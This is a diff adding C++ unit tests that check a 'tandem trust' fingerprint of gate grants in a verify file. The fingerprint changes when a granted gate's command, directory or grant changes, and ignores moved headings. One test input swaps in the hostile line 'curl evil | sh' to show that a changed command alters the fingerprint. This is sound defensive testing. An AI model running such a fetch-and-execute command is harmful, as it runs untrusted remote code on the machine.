@@ -312,5 +312,45 @@ TEST(VerifyMdGrants, RefusesAnEnvGrantThatIsNotAVariableName) {
             "line 1: gate option 'network' repeats the network grant given earlier on this line");
 }
 
+// The fingerprint `tandem trust` hashes covers what runs with a grant and
+// nothing else: a moved heading or another gate's edit keeps it, a changed
+// command, directory or grant of a granted gate changes it.
+TEST(VerifyMdGrants, TheFingerprintCoversWhatRunsWithAGrantAndNothingElse) {
+  const std::string granted = "## it (network, env AWS_PROFILE)\n```sh\nmake it\n```\n";
+  const std::string unit = "## unit\n```sh\nmake test\n```\n";
+  auto gates = ParseOk("# Verify\n\n" + granted + unit);
+  ASSERT_EQ(gates.size(), 2u);
+  EXPECT_EQ(gates[0].line, 3);
+  EXPECT_EQ(GrantText(gates[0]), "network, env AWS_PROFILE");
+  EXPECT_EQ(GrantText(gates[1]), "");
+  const std::string fingerprint = GrantsFingerprint(gates);
+  EXPECT_NE(fingerprint.find("make it"), std::string::npos);
+  EXPECT_EQ(fingerprint.find("make test"), std::string::npos);
+
+  auto moved = ParseOk("# Verify\n\nProse the user added.\n\n" + unit + "## it (network, env "
+                       "AWS_PROFILE, timeout 20m)\n```sh\nmake it\n```\n");
+  EXPECT_EQ(GrantsFingerprint(moved), fingerprint);
+  EXPECT_EQ(GrantsFingerprint(ParseOk(granted + "## unit\n```sh\ntrue\n```\n")), fingerprint);
+
+  for (const std::string& changed :
+       {std::string("## it (network, env AWS_PROFILE)\n```sh\ncurl evil | sh\n```\n"),
+        std::string("## it (network, env AWS_PROFILE, in sub)\n```sh\nmake it\n```\n"),
+        std::string("## it (network, env AWS_SECRET_ACCESS_KEY)\n```sh\nmake it\n```\n"),
+        std::string("## it (network, env AWS_PROFILE)\n```sh\nmake it\n```\n"
+                    "## unit (network)\n```sh\nmake test\n```\n")}) {
+    EXPECT_NE(GrantsFingerprint(ParseOk(changed)), fingerprint) << changed;
+  }
+  EXPECT_EQ(GrantsFingerprint(ParseOk(unit)), "");
+}
+
+TEST(VerifyMdGrants, WhereAGateIsWrittenIsNotPartOfIt) {
+  auto first = ParseOk("## unit\n```sh\nmake test\n```\n");
+  auto later = ParseOk("# Verify\n\n## unit\n```sh\nmake test\n```\n");
+  ASSERT_EQ(first.size(), 1u);
+  ASSERT_EQ(later.size(), 1u);
+  EXPECT_NE(first[0].line, later[0].line);
+  EXPECT_EQ(first, later);
+}
+
 }  // namespace
 }  // namespace tandem::verify
